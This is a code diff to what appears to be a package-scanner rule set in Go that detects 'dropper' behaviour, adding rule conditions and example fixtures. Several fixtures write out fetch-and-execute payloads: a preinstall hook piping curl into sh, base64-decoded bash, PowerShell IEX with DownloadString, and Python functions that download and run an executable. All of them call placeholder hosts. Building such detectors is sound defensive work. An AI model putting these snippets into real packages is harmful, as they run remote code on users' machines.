@@ -19,6 +19,9 @@ func dropper() []Rule {
 				{Triggers: []string{b.Install, b.Command}, Sources: []string{b.Download}, Sinks: runs, Script: Yes, Via: encodings, NotScheme: notProgram},
 				{Triggers: []string{b.Load, b.Event}, Sources: []string{b.Download}, Sinks: runs, Via: encodings, NotScheme: notProgram},
 				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Download}, Name: Server, Sinks: runs, Script: No, NotScheme: notProgram},
+				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Download}, Name: Stranger, Sinks: []string{b.Process}, Target: Windows, Script: No, NotScheme: notProgram},
+				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Download}, Sinks: []string{b.Process}, Target: Hidden, Script: No, NotScheme: notProgram, In: ".py"},
+				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Download}, Sinks: []string{b.Code}, Languages: []string{"shell"}, Script: No, NotScheme: notProgram, In: ".py"},
 			},
 			Graver: []Condition{
 				{Via: encodings},
@@ -26,6 +29,9 @@ func dropper() []Rule {
 				{Triggers: []string{b.Install, b.Import}, Sinks: []string{b.Code}, Languages: []string{"python"}},
 				{Triggers: []string{b.Install, b.Import}, Sinks: []string{b.Process}, Target: Program},
 				{Triggers: []string{b.Install, b.Import}, Sources: []string{b.Download}, All: Yes, Script: No},
+				{Triggers: []string{b.Install, b.Import}, Sinks: []string{b.Code}, Languages: []string{"shell"}, In: ".py"},
+				{Triggers: []string{b.Command, b.Call}, Name: Stranger, Sinks: []string{b.Process}, Target: Windows, Script: No},
+				{Triggers: []string{b.Command, b.Call}, Sinks: []string{b.Process}, Target: Hidden, Script: No, In: ".py"},
 			},
 			Examples: []Example{
 				Package("piped into a shell", `"scripts":{"preinstall":"curl -s http://203.0.113.9/x | sh"}`, nil),
@@ -33,6 +39,8 @@ func dropper() []Rule {
 				Package("evaluated", `"main":"i.js"`, map[string]string{"i.js": "require('https').get('https://c.example/p.js',r=>{let s='';r.on('data',d=>s+=d);r.on('end',()=>eval(s))})"}),
 				Package("fetched to a file, then started", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const http=require('http'),fs=require('fs'),os=require('os'),cp=require('child_process');const f=fs.createWriteStream(os.tmpdir()+'/u');http.get('http://203.0.113.8/u',r=>{r.pipe(f);f.on('finish',()=>{f.close();cp.exec(os.tmpdir()+'/u')})})"}),
 				Package("as a function", `"main":"i.js"`, map[string]string{"i.js": "fetch('https://c.example/p.js').then(r=>r.text()).then(t=>{new Function(t)()})"}),
+				Module("a program for Windows, when called", "import urllib.request, subprocess\ndef helper():\n    urllib.request.urlretrieve('https://get.sample.example/win', 'helper.exe')\n    subprocess.run(['helper.exe'])\n"),
+				Module("from a temporary folder, when called", "import subprocess\ndef go(f):\n    subprocess.run('wget -qO /tmp/u https://files.example/u && chmod +x /tmp/u && /tmp/u', shell=True)\n"),
 				One("decoded first", "install.sh", "curl -s https://c.example/x | base64 -d | bash\n"),
 				Started("by PowerShell", "powershell -File", "i.ps1", "$u = 'http'+'s://c.example/x.ps1'\nI`E`X ((New-Object System.Net.WebClient).DownloadString($u))\n"),
 				Started("by PowerShell, saved first", "powershell -File", "i.ps1", "Invoke-WebRequest -Uri https://c.example/u.exe -OutFile \"$env:TEMP\\u.exe\"\nStart-Process -FilePath \"$env:TEMP\\u.exe\" -WindowStyle Hidden\n"),
@@ -51,7 +59,19 @@ func dropper() []Rule {
 				One("an installer in PowerShell that fetches the next", "install.ps1", "iex ((New-Object System.Net.WebClient).DownloadString('https://get.example/install.ps1'))\n"),
 				Started("a configuration fetched by PowerShell", "powershell -File", "i.ps1", "Invoke-WebRequest -Uri https://c.example/c.json -OutFile c.json\n$c = Get-Content c.json | ConvertFrom-Json\nWrite-Host $c.version\n"),
 				Gem("a library fetched, not run", "require 'open-uri'\nrequire 'mkmf'\nFile.binwrite('lib.tar.gz', URI.open('https://d.example/lib.tar.gz').read)\ncreate_makefile('sample')\n"),
+				Module("a tool fetched from a forge, when called", "import urllib.request, subprocess\ndef tool(args):\n    urllib.request.urlretrieve('https://github.com/e/e/releases/download/1/tool.exe', 'tool.exe')\n    subprocess.run(['tool.exe'] + args)\n"),
 				Package("data fetched", `"main":"i.js"`, map[string]string{"i.js": "exports.get=()=>fetch('https://api.example/v1').then(r=>r.json())"}),
+			},
+		},
+		{
+			ID: "package_fetched", Severity: Critical,
+			When: []Condition{{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Download}, Name: Stranger, Sinks: []string{b.Code}, Slots: []string{"package"}, Script: No}},
+			Examples: []Example{
+				Module("from a host that looks like the index", "import os, sys\nos.system(f'{sys.executable} -m pip install https://files.packages.example/a/colour-1.0.tar.gz')\n"),
+			},
+			Neighbours: []Example{
+				Module("from the index", "import os, sys\nos.system(f'{sys.executable} -m pip install colour')\n"),
+				Python("from a forge", "import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['pip', 'install', 'git+https://github.com/e/e.git'])\nsetup(name='example')\n"),
 			},
 		},
 		{
